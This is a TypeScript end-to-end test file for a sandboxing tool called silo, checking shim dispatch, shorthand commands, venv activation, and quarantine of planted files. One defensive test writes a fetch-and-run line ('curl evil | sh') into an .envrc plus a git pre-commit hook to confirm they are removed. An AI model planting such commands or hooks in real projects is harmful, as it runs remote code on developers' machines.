// Shims, shorthand and sibling promotion end to end: the built binary, the fixture images, the bwrap driver.
import { beforeAll, describe, expect, test } from "bun:test";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { makeHome, makeProject, runSilo } from "../../helpers/silo.ts";

let home: string;
beforeAll(async () => {
  home = makeHome();
  for (const t of ["python@3.11-slim", "node@22-slim"]) {
    const r = await runSilo(["install", t], { home });
    if (r.exitCode !== 0) throw new Error(`silo install ${t} failed: ${r.stderr}`);
  }
}, 600_000);

const shimEnv = () => ({ PATH: `${join(home, "bin")}:/usr/bin:/bin` });

describe("through shims (argv[0] dispatch)", () => {
  test("`python` runs in the sandbox, in the matching subdirectory of /workspace", async () => {
    const proj = makeProject("");
    mkdirSync(join(proj, "sub"));
    const r = await runSilo(["-c", "import os, sys; print(os.getcwd(), sys.argv[1:], os.environ['HOME'])", "a b", "--flag"], {
      home,
      cwd: join(proj, "sub"),
      bin: join(home, "bin", "python"),
      env: shimEnv(),
    });
    expect(r.stderr).toBe("");
    expect(r.stdout).toBe("/workspace/sub ['a b', '--flag'] /root\n");
    expect(r.exitCode).toBe(0);
  });
  test("`npm test` runs the project's test script inside node's sandbox", async () => {
    const proj = makeProject("", { "package.json": JSON.stringify({ name: "t", version: "1.0.0", scripts: { test: "node -e \"console.log('tests ran in', process.cwd())\"" } }) });
    const r = await runSilo(["test"], { home, cwd: proj, bin: join(home, "bin", "npm"), env: shimEnv() });
    expect(r.stdout).toContain("tests ran in /workspace");
    expect(r.exitCode).toBe(0);
  });
});

describe("shorthand", () => {
  test("`silo python x.py` is `silo run python x.py`", async () => {
    const proj = makeProject("", { "x.py": "import sys\nprint('x ran', sys.argv[1:])\nsys.exit(3)\n" });
    const r = await runSilo(["python", "x.py", "--verbose"], { home, cwd: proj });
    expect(r.stdout).toBe("x ran ['--verbose']\n");
    expect(r.exitCode).toBe(3);
  });
  test("`silo pip --version` runs the tool that owns the pip shim", async () => {
    const r = await runSilo(["pip", "--version"], { home, cwd: makeProject("") });
    expect(r.stdout).toMatch(/^pip \d+.*python 3\.11/);
  });
  test("`silo run node npm --version` promotes the sibling shim", async () => {
    const r = await runSilo(["run", "node", "npm", "--version"], { home, cwd: makeProject("") });
    expect(r.stdout).toMatch(/^\d+\.\d+\.\d+\n$/);
    expect(r.exitCode).toBe(0);
  });
  test("a python venv in the project is activated for later runs", async () => {
    const proj = makeProject("");
    const mk = await runSilo(["run", "python", "-m", "venv", "--without-pip", ".venv"], { home, cwd: proj });
    expect(mk.exitCode).toBe(0);
    writeFileSync(join(proj, "where.py"), "import sys, os\nprint(sys.prefix, os.environ.get('VIRTUAL_ENV'))\n");
    const r = await runSilo(["python", "where.py"], { home, cwd: proj });
    expect(r.stdout).toBe("/workspace/.venv /workspace/.venv\n");
  });
});

describe("no planted code when the protected path did not exist", () => {
  test("an .envrc or a fresh .git/hooks created by the sandbox is moved out of the project", async () => {
    const proj = makeProject("");
    const r = await runSilo(
      ["run", "python", "-c", "import os; open('.envrc','w').write('curl evil | sh'); os.makedirs('.git/hooks'); open('.git/hooks/pre-commit','w').write('x'); open('ok.txt','w').write('kept')"],
      { home, cwd: proj },
    );
    expect(r.exitCode).toBe(0);
    expect(r.stderr).toContain("python left .git/hooks, .envrc in the project");
    expect(r.stderr).toContain("silo quarantine");
    expect(await Bun.file(join(proj, ".envrc")).exists()).toBe(false);
    expect(await Bun.file(join(proj, ".git/hooks/pre-commit")).exists()).toBe(false);
    expect(await Bun.file(join(proj, "ok.txt")).text()).toBe("kept");
  });
});
